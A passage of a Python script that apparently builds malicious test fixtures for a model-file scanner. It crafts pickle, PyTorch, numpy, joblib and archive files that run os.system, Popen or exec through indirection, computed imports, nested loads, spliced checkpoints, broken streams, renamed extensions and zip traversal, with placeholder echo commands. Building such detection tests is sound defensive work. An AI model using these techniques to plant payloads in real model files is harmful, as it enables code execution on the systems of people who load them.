        mal("p02_%s.pkl" % tag, dumps(obj, 4), "P2", mentions, "gadget %s, protocol 4" % mentions[0])
    # gadgets that may not be importable here: hand assembled
    hand_p2 = [
        ("posixsubprocess_fork_exec", G("_posixsubprocess", "fork_exec")([b"/bin/echo"], [b"/bin/echo"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, None, None, None, -1, None, False), "_posixsubprocess.fork_exec"),
        ("idlelib_pyshell", G("idlelib.pyshell", "ModifiedInterpreter")(None), "idlelib.pyshell.ModifiedInterpreter"),
        ("numpy_testing_runstring", G("numpy.testing._private.utils", "runstring")(PYCMD, {}), "numpy.testing._private.utils.runstring"),
        ("distutils_spawn", G("distutils.spawn", "spawn")(["echo", "modelgate-fixture"]), "distutils.spawn.spawn"),
        ("os_system_via_commands", G("commands", "getoutput")(CMD), "commands.getoutput"),
        ("sys_modules_getitem", G("builtins", "getattr")(G("sys", "modules"), "get"), "sys.modules"),
        ("pip_main", G("pip", "main")(["install", "modelgate-fixture-nonexistent"]), "pip.main"),
        ("torch_load_file", G("torch", "load")("/tmp/modelgate-fixture.pt"), "torch.load"),
        ("numpy_ctypeslib_load_library", G("numpy.ctypeslib", "load_library")("libc", "/lib"), "numpy.ctypeslib.load_library"),
        ("pdb_run", G("pdb", "run")(PYCMD), "pdb.run"),
        ("cprofile_run", G("cProfile", "run")(PYCMD), "cProfile.run"),
        ("profile_run", G("profile", "run")(PYCMD), "profile.run"),
        ("doctest_debug_script", G("doctest", "debug_script")(PYCMD), "doctest.debug_script"),
        ("code_interact", G("code", "interact")(), "code.interact"),
        ("imp_load_source", G("imp", "load_source")("m", "/tmp/modelgate-fixture.py"), "imp.load_source"),
        ("importlib_sourcefileloader", G("importlib.machinery", "SourceFileLoader")("m", "/tmp/modelgate-fixture.py"), "importlib.machinery.SourceFileLoader"),
        ("builtins_breakpoint", G("builtins", "breakpoint")(), "builtins.breakpoint"),
        ("posix_spawnv", G("posix", "spawnv")(0, "/bin/echo", ["echo", "modelgate-fixture"]), "posix.spawnv"),
        ("os_execvp", G("os", "execvp")("echo", ["echo", "modelgate-fixture"]), "os.execvp"),
        ("subprocess_getoutput_py2", G("commands", "getstatusoutput")(CMD), "commands.getstatusoutput"),
        ("shutil_copyfile", G("shutil", "copyfile")("/etc/hostname", "/tmp/modelgate-fixture"), "shutil.copyfile"),
        ("tarfile_extractall", G("builtins", "getattr")(G("tarfile", "open")("/tmp/modelgate-fixture.tar"), "extractall"), "tarfile.open"),
        ("multiprocessing_process", G("multiprocessing.context", "Process")(), "multiprocessing.context.Process"),
        ("threading_timer", G("threading", "Timer")(0, G("posix", "system"), (CMD,)), "threading.Timer"),
        ("sys_setrecursionlimit", G("sys", "setrecursionlimit")(10), "sys.setrecursionlimit"),
        ("signal_signal", G("signal", "alarm")(1), "signal.alarm"),
        ("numpy_f2py_compile", G("numpy.f2py", "compile")("end", "m"), "numpy.f2py.compile"),
        ("torch_utils_cpp_extension", G("torch.utils.cpp_extension", "load_inline")("m", "", ""), "torch.utils.cpp_extension.load_inline"),
    ]
    for tag, tree, mention in hand_p2:
        mal("p02_%s.pkl" % tag, asm(tree, 4), "P2", [mention], "hand-assembled gadget %s, protocol 4 STACK_GLOBAL" % mention)

    # ---------------- P3: indirection
    os_mod = Call(builtins.__import__, "os")
    p3 = [
        ("getattr_import_chain", Call(Call(builtins.getattr, os_mod, "system"), CMD), ["builtins.getattr", "builtins.__import__"]),
        ("operator_attrgetter", Call(Call(Call(operator.attrgetter, "system"), os_mod), CMD), ["operator.attrgetter", "builtins.__import__"]),
        ("functools_partial", Call(functools.partial(os.system, CMD)), ["functools.partial", "posix.system"]),
        ("importlib_import_module", Call(Call(builtins.getattr, Call(importlib.import_module, "os"), "system"), CMD),
         ["importlib.import_module", "builtins.getattr"]),
        ("functools_reduce_getattr", Call(Call(functools.reduce, builtins.getattr, ["system"], Call(importlib.import_module, "os")), CMD),
         ["_functools.reduce", "builtins.getattr", "importlib.import_module"]),
        ("operator_itemgetter_dict", Call(Call(Call(operator.itemgetter, "system"), Call(builtins.vars, os_mod)), CMD),
         ["operator.itemgetter", "builtins.vars", "builtins.__import__"]),
    ]
    for tag, obj, mentions in p3:
        for proto in (2, 4):
            ms = [spelled(m, proto) for m in mentions]
            mal("p03_%s_proto%d.pkl" % (tag, proto), dumps(obj, proto), "P3", ms, "indirection: %s, protocol %d" % (tag, proto))

    # ---------------- P4: non-inline STACK_GLOBAL operands
    mal("p04_stack_global_from_memo.pkl",
        PROTO4 + sbu("posix") + MEMOIZE + sbu("system") + MEMOIZE + POP + POP + b"h\x00h\x01" + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P4", ["posix.system"], "STACK_GLOBAL whose module/name are fetched from the memo (BINGET) after being popped")
    mal("p04_stack_global_from_memo_long.pkl",
        PROTO4 + sbu("system") + b"r\x07\x00\x00\x00" + POP + sbu("posix") + b"r\x09\x00\x00\x00" + POP
        + b"j\x09\x00\x00\x00j\x07\x00\x00\x00" + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P4", ["posix.system"], "STACK_GLOBAL operands from LONG_BINPUT/LONG_BINGET slots stored out of order")
    mal("p04_stack_global_operator_add.pkl",
        PROTO4 + sbu("operator") + sbu("add") + STACK_GLOBAL + sbu("po") + sbu("six") + TUPLE2 + REDUCE
        + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P4", ["operator.add"], "module name computed at load time: operator.add('po','six') -> 'posix'; non-constant import")
    mal("p04_stack_global_codecs_rot13.pkl",
        PROTO4 + sbu("_codecs") + sbu("decode") + STACK_GLOBAL + sbu(codecs.encode("posix", "rot13")) + sbu("rot13") + TUPLE2 + REDUCE
        + sbu("_codecs") + sbu("decode") + STACK_GLOBAL + sbu(codecs.encode("system", "rot13")) + sbu("rot13") + TUPLE2 + REDUCE
        + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P4", ["_codecs.decode"], "module and name both computed via _codecs.decode(rot13); non-constant import")
    mal("p04_stack_global_str_join.pkl",
        PROTO4 + sbu("builtins") + sbu("str.join") + STACK_GLOBAL + sbu("") + b"]" + MARK + sbu("po") + sbu("si") + sbu("x") + b"e" + TUPLE2 + REDUCE
        + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P4", ["builtins.str.join"], "module name built by str.join('', ['po','si','x']) (dotted builtins.str.join); non-constant import")
    mal("p04_stack_global_int_operands.pkl",
        PROTO4 + b"K\x01K\x02" + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P4", [], "STACK_GLOBAL with int operands (non-string, non-constant import)")
    mal("p04_stack_global_bytes_operands.pkl",
        PROTO4 + b"C\x05posixC\x06system" + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P4", [], "STACK_GLOBAL with bytes operands b'posix' b'system'")
    mal("p04_stack_global_from_getattr_result.pkl",
        PROTO4 + sbu("builtins") + sbu("getattr") + STACK_GLOBAL + sbu("posix") + sbu("__class__") + TUPLE2 + REDUCE + POP
        + sbu("builtins") + sbu("str") + STACK_GLOBAL + sbu("posix") + TUPLE1 + REDUCE + sbu("builtins") + sbu("str") + STACK_GLOBAL + sbu("system") + TUPLE1 + REDUCE
        + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        "P4", ["builtins.str"], "module/name are results of builtins.str(...) calls, not inline constants")

    # ---------------- P5: old / unusual opcodes
    mal("p05_inst_os_system.pkl", b"(" + p0str(CMD) + b"ios\nsystem\n.", "P5", ["os.system"], "protocol 0 INST 'os system'")
    mal("p05_inst_posix_system.pkl", b"(" + p0str(CMD) + b"iposix\nsystem\n.", "P5", ["posix.system"], "protocol 0 INST 'posix system'")
    mal("p05_inst_subprocess_popen.pkl", b"((S'echo'\nS'modelgate-fixture'\nlisubprocess\nPopen\n.", "P5", ["subprocess.Popen"], "INST subprocess.Popen with a list argument")
    mal("p05_obj_posix_system.pkl", b"(cposix\nsystem\n" + p0str(CMD) + b"o.", "P5", ["posix.system"], "protocol 1 OBJ: MARK GLOBAL args OBJ")
    mal("p05_obj_binary_proto1.pkl", b"(cposix\nsystem\nX" + struct.pack("<I", len(CMD)) + CMD.encode() + b"o.", "P5", ["posix.system"], "OBJ with BINUNICODE argument")
    mal("p05_newobj_popen.pkl", PROTO2 + op_global("subprocess", "Popen") + b"](X\x04\x00\x00\x00echoX\x11\x00\x00\x00modelgate-fixturee" + TUPLE1 + b"\x81" + STOP,
        "P5", ["subprocess.Popen"], "NEWOBJ on subprocess.Popen (cls.__new__)")
    mal("p05_newobj_ex_popen.pkl", PROTO4 + sbu("subprocess") + sbu("Popen") + STACK_GLOBAL + b"]" + sbu("echo") + b"a" + TUPLE1 + EMPTY_DICT + sbu("shell") + b"\x88s" + b"\x92" + STOP,
        "P5", ["subprocess.Popen"], "NEWOBJ_EX on subprocess.Popen with kwargs")
    mal("p05_build_setstate_ordereddict.pkl",
        PROTO2 + op_global("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        + b"N}X\x0c\x00\x00\x00__setstate__" + op_global("posix", "system") + b"s" + TUPLE2 + BUILD
        + bu(CMD) + BUILD + STOP,
        "P5", ["posix.system"], "BUILD sets instance attribute __setstate__=posix.system on an OrderedDict, 2nd BUILD calls it with the command")
    mal("p05_build_on_popen_instance.pkl",
        PROTO2 + op_global("subprocess", "Popen") + EMPTY_TUPLE + b"\x81" + b"}X\x04\x00\x00\x00argsX\x04\x00\x00\x00echos" + BUILD + STOP,
        "P5", ["subprocess.Popen"], "NEWOBJ + BUILD on a dangerous class")
    mal("p05_ext1.pkl", PROTO2 + b"\x82\x01" + bu(CMD) + TUPLE1 + REDUCE + STOP, "P5", [], "EXT1 code 1 (copyreg extension registry) then REDUCE")
    mal("p05_ext2.pkl", PROTO2 + b"\x83\x34\x12" + bu(CMD) + TUPLE1 + REDUCE + STOP, "P5", [], "EXT2 code 0x1234 then REDUCE")
    mal("p05_ext4.pkl", PROTO2 + b"\x84\xff\xff\xff\x7f" + bu(CMD) + TUPLE1 + REDUCE + STOP, "P5", [], "EXT4 code 0x7fffffff then REDUCE")
    mal("p05_reconstructor_popen.pkl", PROTO2 + op_global("copy_reg", "_reconstructor") + op_global("subprocess", "Popen") + op_global("__builtin__", "object") + b"N\x87" + REDUCE + STOP,
        "P5", ["subprocess.Popen"], "copy_reg._reconstructor(subprocess.Popen, object, None): allowed reconstructor with a dangerous class")

    # ---------------- P6: nested deserialisation
    inner = dumps(Call(os.system, CMD), 2)
    b = io.BytesIO()
    np.save(b, np.array([Call(os.system, CMD)], dtype=object), allow_pickle=True)
    inner_npy = b.getvalue()
    import dill
    p6 = [
        ("pickle_loads", Call(pickle.loads, inner), ["_pickle.loads"]),
        ("pickle_loads_pure", Call(pickle._loads, inner), ["pickle._loads"]),
        ("torch_load_bytesio", Call(torch.load, Call(io.BytesIO, inner)), ["torch.serialization.load", "_io.BytesIO"]),
        ("numpy_load_bytesio", Call(np.load, Call(io.BytesIO, inner_npy), None, True), ["numpy.load", "_io.BytesIO", "<npy>"]),
        ("dill_loads", Call(dill.loads, inner), ["dill._dill.loads"]),
        ("marshal_loads", Call(marshal.loads, marshal.dumps(compile(PYCMD, "<fixture>", "exec"))), ["marshal.loads"]),
        ("pickle_unpickler_load", Call(Call(builtins.getattr, Call(pickle.Unpickler, Call(io.BytesIO, inner)), "load")),
         ["_pickle.Unpickler", "builtins.getattr"]),
    ]
    for tag, obj, mentions in p6:
        ms = [m for m in mentions if m != "<npy>"] + (["posix.system"] if tag not in ("marshal_loads", "numpy_load_bytesio") else [])
        mal("p06_%s.pkl" % tag, dumps(obj, 4), "P6", ms,
            "nested deserialisation via %s; the constant bytes argument is itself a malicious pickle" % mentions[0], layer="pickle>bytes>pickle")
    mal("p06_pickle_loads_spelled_pickle.pkl", asm(G("pickle", "loads")(inner), 3), "P6", ["pickle.loads", "posix.system"],
        "hand-assembled GLOBAL 'pickle loads' with an inner malicious pickle", layer="pickle>bytes>pickle")
    mal("p06_pickle_loads_proto2_codecs_bytes.pkl", dumps(Call(pickle.loads, inner), 2), "P6", ["pickle.loads"],
        "protocol 2: the inner pickle bytes are themselves built by _codecs.encode(latin-1 str) -- not a BINBYTES constant", layer="pickle>codecs>pickle")
    mal("p06_pickle_loads_nested_twice.pkl", dumps(Call(pickle.loads, dumps(Call(pickle.loads, inner), 4)), 4), "P6",
        ["_pickle.loads", "posix.system"], "pickle.loads(pickle.loads-of(os.system)): two levels of nesting", layer="pickle>bytes>pickle>bytes>pickle")

    # ---------------- P7: code objects
    import cloudpickle
    mal("p07_dill_lambda.pkl", dill.dumps(lambda: 1), "P7", ["dill._dill._create_code", "dill._dill._create_function"], "dill.dumps(lambda: 1)")

    def local_fn(x):
        return os.system(x)
    mal("p07_dill_function_recurse.pkl", dill.dumps(local_fn, recurse=True), "P7", ["dill._dill._create_function"], "dill.dumps of a local function calling os.system (recurse=True)")
    mal("p07_cloudpickle_function.pkl", cloudpickle.dumps(local_fn), "P7", ["cloudpickle.cloudpickle._make_function"], "cloudpickle.dumps of a locally defined function")
    mal("p07_cloudpickle_lambda_proto2.pkl", cloudpickle.dumps(lambda: PYCMD, protocol=2), "P7", [], "cloudpickle.dumps(lambda, protocol=2)")
    co = compile(PYCMD, "<fixture>", "exec")
    mal("p07_types_functiontype_marshal.pkl",
        asm(HCall(G("types", "FunctionType")(G("marshal", "loads")(marshal.dumps(co)), {})), 4),
        "P7", ["types.FunctionType", "marshal.loads"], "types.FunctionType(marshal.loads(<code>), {})() -- runs marshalled bytecode")
    co_args = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals, co.co_stacksize, co.co_flags,
               co.co_code, co.co_consts, co.co_names, co.co_varnames, co.co_filename, co.co_name, co.co_qualname,
               co.co_firstlineno, co.co_linetable, co.co_exceptiontable, co.co_freevars, co.co_cellvars)
    mal("p07_types_codetype.pkl",
        asm(HCall(G("types", "FunctionType")(G("types", "CodeType")(*co_args), {})), 4),
        "P7", ["types.CodeType", "types.FunctionType"], "types.CodeType(...) built from constants, wrapped in types.FunctionType and called")
    mal("p07_builtins_exec_code.pkl", asm(G("builtins", "exec")(G("marshal", "loads")(marshal.dumps(co))), 2),
        "P7", ["builtins.exec", "marshal.loads"], "exec(marshal.loads(<code>))")

    # ---------------- P8: several pickles in one stream
    benign_p = pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)
    mal("p08_concat_benign_then_malicious.pkl", benign_p + inner, "P8", ["posix.system"], "benign pickle, then a second pickle calling posix.system")
    mal("p08_concat_proto4_then_proto0.pkl", pickle.dumps({"a": 1}, protocol=4) + dumps(Call(os.system, CMD), 0), "P8", ["posix.system"],
        "benign protocol-4 pickle followed by a protocol-0 payload pickle")
    mal("p08_concat_three.pkl", benign_p + benign_p + dumps(Call(subprocess.Popen, ["echo", "modelgate-fixture"]), 4), "P8", ["subprocess.Popen"],
        "two benign pickles then a payload pickle")
    mal("p08_after_stop_no_proto.pkl", benign_p + payload_ops() + STOP, "P8", ["posix.system"],
        "data after STOP is a PROTO-less opcode stream calling posix.system")
    mal("p08_torch_data_pkl_concat.pt", torch_zip_rewrite(tsave(sd32), {"data.pkl": lambda d: d + inner}), "P8", ["posix.system"],
        "torch zip whose data.pkl has a second (malicious) pickle after the STOP", layer="zip>pickle")

    # ---------------- P8b: spliced into a working checkpoint
    def splice(d):
        return splice_after_proto(d, payload_ops() + POP)
    spliced = torch_zip_rewrite(tsave(sd32), {"data.pkl": splice})
    mal("p08b_torch_spliced_after_proto.pt", spliced, "P8b", ["posix.system"],
        "real Linear state dict; data.pkl gets GLOBAL posix system + arg + TUPLE1 + REDUCE + POP right after PROTO; still a loadable checkpoint", layer="zip>pickle")
    mal("p08b_torch_spliced_before_stop.pt", torch_zip_rewrite(tsave(sd32), {"data.pkl": lambda d: splice_before_stop(d, payload_ops() + POP)}),
        "P8b", ["posix.system"], "payload spliced just before STOP of a real state dict", layer="zip>pickle")
    mal("p08b_pytorch_model.bin", torch_zip_rewrite(tsave(sd32), {"data.pkl": lambda d: splice_after_proto(d, payload_ops("builtins", "exec", PYCMD) + POP)}),
        "P8b", ["builtins.exec"], "HF-style .bin with builtins.exec spliced in", layer="zip>pickle")
    mal("p08b_checkpoint_reduce_value.pt", tsave({"model": sd32, "epoch": 1, "note": Call(os.system, CMD)}), "P8b", ["posix.system"],
        "torch.save of a real checkpoint dict where one value is a __reduce__ payload (still loads)", layer="zip>pickle")
    mal("p08b_whole_module_spliced.pt",
        torch_zip_rewrite(tsave(torch.nn.Sequential(torch.nn.Linear(2, 2))), {"data.pkl": splice}),
        "P8b", ["posix.system"], "whole nn.Module save with a spliced payload", layer="zip>pickle")

    # ---------------- P9: broken streams
    mal("p09_payload_then_garbage.pkl", PROTO2 + payload_ops() + POP + b"\xff\xfe\xfd garbage that is not pickle \x00\x01", "P9", ["posix.system"],
        "nullifAI style: payload opcodes, then invalid opcodes, no STOP")
    mal("p09_payload_then_truncated.pkl", PROTO2 + payload_ops() + POP + b"}q\x00X\x10\x00\x00\x00wei", "P9", ["posix.system"],
        "payload then a BINUNICODE cut short (truncated stream)")
    mal("p09_truncated_no_stop.pkl", PROTO2 + payload_ops(), "P9", ["posix.system"], "payload and no STOP at all")
    mal("p09_torch_zip_broken_data_pkl.pt",
        torch_zip_rewrite(tsave(sd32), {"data.pkl": lambda d: splice_after_proto(d, payload_ops() + POP)[:60] + b"\xff\xff"}),
        "P9", ["posix.system"], "torch zip whose data.pkl is payload + broken stream", layer="zip>pickle")
    mal("p09_proto4_frame_then_garbage.pkl",
        PROTO4 + b"\x95" + struct.pack("<Q", 30) + sbu("posix") + sbu("system") + STACK_GLOBAL + sbu(CMD[:10]) + b"\xba\xba\xba", "P9", ["posix.system"],
        "protocol 4: STACK_GLOBAL posix.system then junk inside the frame")
    mal("p09_payload_then_stack_underflow.pkl", PROTO2 + payload_ops() + POP + POP + POP + b"t" + STOP, "P9", ["posix.system"],
        "payload followed by opcodes that underflow the stack (valid opcodes, invalid program)")

    # ---------------- P10: extension games
    simple = dumps(Call(os.system, CMD), 2)
    for ext in ("txt", "safetensors", "json", "dat", "npy", "bin", "h5", "onnx", "gguf", "ckpt", "pth", "msgpack"):
        mal("p10_pickle_named.%s" % ext, simple, "P10", ["posix.system"], "malicious pickle named .%s" % ext)
    mal("p10_pickle_no_extension", simple, "P10", ["posix.system"], "malicious pickle with no extension")
    mal("p10_model.safetensors", spliced, "P10", ["posix.system"], "malicious torch zip named model.safetensors", layer="zip>pickle")
    mal("p10_proto0_named.txt", dumps(Call(os.system, CMD), 0), "P10", ["posix.system"], "protocol-0 (all-ASCII) pickle named .txt")

    # ---------------- P11: zip tricks
    base_members = zip_members(tsave(sd32))
    mal_pkl = splice_after_proto(dict(base_members)[[n for n, _ in base_members if n.endswith("data.pkl")][0]], payload_ops() + POP)

    def members_with(pkl=mal_pkl, **opts):
        out = []
        for n, d in base_members:
            e = {"name": n, "data": d, "descriptor": True}
            if n.endswith("data.pkl"):
                e["data"] = pkl
                e.update(opts)
            out.append(e)
        return out
    prefix = base_members[0][0].split("/")[0]
    mal("p11_zip_bad_crc.pt", zip_build(members_with(crc=0xDEADBEEF)), "P11", ["posix.system"], "data.pkl CRC wrong in both headers (zipfile raises BadZipFile)", layer="zip>pickle")
    mal("p11_zip_local_name_differs.pt", zip_build(members_with(local_name=prefix + "/data.pkx")), "P11", ["posix.system"],
        "local header name differs from central directory name", layer="zip>pickle")
    mal("p11_zip_local_name_differs_len.pt", zip_build(members_with(local_name=prefix + "/innocent_name_longer.txt")), "P11", ["posix.system"],
        "local header name (different length) differs from central name", layer="zip>pickle")
    mal("p11_zip_encrypted_flag.pt", zip_build(members_with(flags=0x01)), "P11", ["posix.system"],
        "stored data.pkl with encryption bit 0 set (zipfile asks for a password; bytes are plain)", layer="zip>pickle")
    mal("p11_zip_patched_data_flag.pt", zip_build(members_with(flags=0x20)), "P11", ["posix.system"],
        "general purpose bit 5 (compressed patched data): zipfile raises NotImplementedError", layer="zip>pickle")
    mal("p11_zip_strong_encryption_flag.pt", zip_build(members_with(flags=0x41)), "P11", ["posix.system"],
        "bits 0+6 (strong encryption)", layer="zip>pickle")
    mal("p11_zip_central_only_flag.pt", zip_build(members_with(cflags=0x01)), "P11", ["posix.system"],
        "encryption bit only in the central directory, not in the local header", layer="zip>pickle")
    mal("p11_zip_deflated_data_pkl.pt", zip_build(members_with(method=8)), "P11", ["posix.system"],
        "data.pkl deflate-compressed (PyTorch writes stored)", layer="zip>pickle")
    benign_pkl = dict(base_members)[prefix + "/data.pkl"]
    mal("p11_zip_payload_in_storage_member.pt",
        zip_build([{"name": n, "data": (simple if n.endswith("data/0") else d), "descriptor": True} for n, d in base_members]
                  + [{"name": prefix + "/data/1", "data": simple}]),
        "P11", ["posix.system"], "benign data.pkl; malicious pickle stored in archive/data/0 and data/1 (storage members)", layer="zip>pickle")
    mal("p11_zip_payload_in_x_bin.pt",
        zip_build([{"name": n, "data": d} for n, d in base_members] + [{"name": prefix + "/x.bin", "data": simple}]),
        "P11", ["posix.system"], "benign checkpoint plus an extra member x.bin holding a malicious pickle", layer="zip>pickle")
    mal("p11_zip_duplicate_names_benign_first.pt",
        zip_build(members_with(pkl=benign_pkl) + [{"name": prefix + "/data.pkl", "data": mal_pkl}]),
        "P11", ["posix.system"], "two members named data.pkl: benign first, malicious second", layer="zip>pickle")
    mal("p11_zip_traversal_dotdot.pt",
        zip_build([{"name": n, "data": d} for n, d in base_members] + [{"name": "../evil.pkl", "data": simple}]),
        "P11", ["posix.system"], "member named ../evil.pkl holding a malicious pickle", layer="zip>pickle")
    mal("p11_zip_traversal_absolute.pt",
        zip_build([{"name": n, "data": d} for n, d in base_members] + [{"name": "/abs/evil.pkl", "data": simple}]),
        "P11", ["posix.system"], "member named /abs/evil.pkl holding a malicious pickle", layer="zip>pickle")
    mal("p11_zip_traversal_only.zip",
        zip_build([{"name": "../../etc/modelgate-fixture.txt", "data": b"harmless text\n", "method": 0}]),
        "P11", [], "zip whose only member climbs out (../../etc/...): path traversal on extraction")
    mal("p11_zip_junk_prefix.pt", zip_build(members_with(), prefix=b"JUNK" * 16), "P11", ["posix.system"],
        "64 bytes of junk before the archive (offsets adjusted), like a self-extracting zip", layer="zip>pickle")
    mal("p11_zip_data_descriptor_lies.pt",
        zip_build(members_with(descriptor=False, crc=0)), "P11", ["posix.system"],
        "no data descriptor, CRC field 0", layer="zip>pickle")

    # ---------------- P12: compression and nesting
    mal("p12_gzip.pkl.gz", gzip.compress(simple, mtime=0), "P12", ["posix.system"], "gzip of a malicious pickle", layer="gzip>pickle")
    mal("p12_bz2.pkl.bz2", bz2.compress(simple), "P12", ["posix.system"], "bz2 of a malicious pickle", layer="bz2>pickle")
    mal("p12_xz.pkl.xz", lzma.compress(simple), "P12", ["posix.system"], "xz of a malicious pickle", layer="xz>pickle")
    mal("p12_lzma_alone.lzma", lzma_alone(simple), "P12", ["posix.system"], "raw lzma (FORMAT_ALONE) of a malicious pickle", layer="lzma>pickle")
    mal("p12_zlib.pkl.zlib", zlib.compress(simple), "P12", ["posix.system"], "zlib of a malicious pickle", layer="zlib>pickle")
    mal("p12_gzip_gzip.pkl.gz.gz", gzip.compress(gzip.compress(simple, mtime=0), mtime=0), "P12", ["posix.system"], "gzip inside gzip", layer="gzip>gzip>pickle")
    mal("p12_gzip_named.bin", gzip.compress(simple, mtime=0), "P12", ["posix.system"], "gzip'ed malicious pickle named .bin", layer="gzip>pickle")
    import joblib
    jpayload = {"weights": np.arange(8, dtype=np.float32), "payload": Call(os.system, CMD)}
    for comp in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
        path = os.path.join(FIX, "malicious", "p12_joblib_%s.joblib" % (comp or "raw"))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        joblib.dump(jpayload, path, compress=(comp, 3) if comp else 0)
        with open(path, "rb") as f:
            data = f.read()
        mal(os.path.relpath(path, os.path.join(FIX, "malicious")), data, "P12" if comp else "P13", ["posix.system"],
            "joblib.dump of {numpy array, os.system payload} %s" % ("compress=(%r,3)" % comp if comp else "uncompressed: payload after raw array bytes"),
            layer=("%s>joblib-pickle" % comp) if comp else "joblib-pickle")
    mal("p12_zip_in_zip.zip", zip_build([{"name": "inner/model.pt", "data": spliced}, {"name": "README.txt", "data": b"hi\n"}], align=0),
        "P12", ["posix.system"], "zip containing a malicious torch zip", layer="zip>zip>pickle")
    mal("p12_zip_in_zip_deflated.zip", zip_build([{"name": "inner/model.pt", "data": spliced, "method": 8}], align=0),
        "P12", ["posix.system"], "deflated zip member that is a malicious torch zip", layer="zip>zip>pickle")
    mal("p12_tar_pickle.tar", tar_bytes([("model/config.json", b"{}\n"), ("model/weights.pkl", simple)]), "P12", ["posix.system"], "tar with a malicious pickle", layer="tar>pickle")
    mal("p12_tar_gz_pickle.tar.gz", gzip.compress(tar_bytes([("weights.pkl", simple)]), mtime=0), "P12", ["posix.system"], "tar.gz with a malicious pickle", layer="gzip>tar>pickle")
    mal("p12_tar_torch_zip.tar", tar_bytes([("model.pt", spliced)]), "P12", ["posix.system"], "tar with a malicious torch zip", layer="tar>zip>pickle")
    mal("p12_7z_torch_zip.7z", sevenzip_bytes([("pytorch_model.bin", spliced)]), "P12", ["posix.system"],
        "7z (py7zr) of a malicious PyTorch zip (nullifAI delivery)", layer="7z>zip>pickle")
    broken_zip = torch_zip_rewrite(tsave(sd32), {"data.pkl": lambda d: splice_after_proto(d, payload_ops() + POP)[:60] + b"\xff\xff"})
    mal("p12_7z_nullifai.7z", sevenzip_bytes([("pytorch_model.bin", broken_zip)]), "P12", ["posix.system"],
        "7z of a torch zip whose data.pkl is payload+garbage (nullifAI exactly)", layer="7z>zip>pickle")
    mal("p12_7z_pickle.7z", sevenzip_bytes([("weights.pkl", simple)]), "P12", ["posix.system"], "7z of a plain malicious pickle", layer="7z>pickle")
    mal("p12_gzip_truncated.pkl.gz", gzip.compress(simple * 50, mtime=0)[:-20], "P12", [],
        "truncated gzip (unreadable layer must be a finding); starts with a malicious pickle", layer="gzip>pickle")

    # ---------------- P13: numpy object arrays, joblib stream continuation
    mal("p13_npy_object_system.npy", inner_npy, "P13", ["posix.system"], "np.save of dtype=object array whose element reduces to os.system", layer="npy>pickle")
    hdr = npy_header("|O", (1,))
    mal("p13_npy_handmade_header.npy", hdr + simple, "P13", ["posix.system"], "hand-assembled .npy header (|O) + malicious pickle", layer="npy>pickle")
    b = io.BytesIO()
    np.lib.format.write_array(b, np.array([Call(os.system, CMD)], dtype=object), version=(2, 0), allow_pickle=True)
    mal("p13_npy_v2_object_system.npy", b.getvalue(), "P13", ["posix.system"], ".npy version 2.0 header, dtype=object, element reduces to os.system", layer="npy>pickle")
    mal("p13_npy_fake_float_header.npy", npy_header("<f4", (4,)) + simple, "P13", [],
        ".npy header claims float32 (4 elements) but the body is a malicious pickle (wrong byte count)", layer="npy>?")
    b = io.BytesIO()
    np.savez(b, ok=np.arange(3), evil=np.array([Call(os.system, CMD)], dtype=object))
    mal("p13_npz_object.npz", b.getvalue(), "P13", ["posix.system"], "np.savez with one object-dtype member calling os.system", layer="zip>npy>pickle")
    b = io.BytesIO()
    np.savez_compressed(b, evil=np.array([Call(os.system, CMD)], dtype=object))
    mal("p13_npz_compressed_object.npz", b.getvalue(), "P13", ["posix.system"], "np.savez_compressed with object-dtype member", layer="zip>npy>pickle")
    path = os.path.join(FIX, "malicious", "p13_joblib_object_array.joblib")
    joblib.dump({"w": np.ones(4), "objs": np.array([1, Call(os.system, CMD)], dtype=object)}, path)
    with open(path, "rb") as f:
        data = f.read()
    mal("p13_joblib_object_array.joblib", data, "P13", ["posix.system"],
        "joblib: object-dtype array is written as a nested complete pickle (protocol 2) inside the stream, after a raw array", layer="joblib-pickle>pickle")
    path = os.path.join(FIX, "malicious", "p13_joblib_multi_arrays.joblib")
    joblib.dump([np.arange(1000, dtype=np.float64), np.arange(7, dtype=np.int8), Call(subprocess.Popen, ["echo", "modelgate-fixture"])], path)
    with open(path, "rb") as f:
        data = f.read()
    mal("p13_joblib_multi_arrays.joblib", data, "P13", ["subprocess.Popen"], "joblib with two raw arrays (with alignment padding) before the payload", layer="joblib-pickle")

    # ---------------- P14: legacy torch format
    legacy = tsave(collections.OrderedDict([("w", torch.arange(6, dtype=torch.float32)), ("b", torch.zeros(2))]), _use_new_zipfile_serialization=False)
    spans = pickle_spans(legacy)
    assert len(spans) == 5, spans
    magic_end = spans[0][1]
    mal("p14_legacy_magic_pickle.pt", splice_after_proto(legacy[:magic_end], payload_ops() + POP) + legacy[magic_end:], "P14", ["posix.system"],
        "legacy format; payload spliced into the first (magic number) pickle")
    s, e = spans[3]
    mal("p14_legacy_object_pickle.pt", legacy[:s] + splice_after_proto(legacy[s:e], payload_ops() + POP) + legacy[e:], "P14", ["posix.system"],
        "legacy format; payload spliced into the main object pickle")
    s, e = spans[2]
    mal("p14_legacy_sysinfo_pickle.pt", legacy[:s] + splice_after_proto(legacy[s:e], payload_ops("builtins", "eval", PYCMD) + POP) + legacy[e:], "P14", ["builtins.eval"],
        "legacy format; payload in the sys_info pickle")
    s, e = spans[4]
    mal("p14_legacy_after_storages.pt", legacy + simple, "P14", ["posix.system"], "legacy format with a malicious pickle appended after the raw storages")
    # storage size lies: first storage's 8-byte numel header claims a huge size
    lie = bytearray(legacy)
    lie[e:e + 8] = struct.pack("<q", 1 << 40)
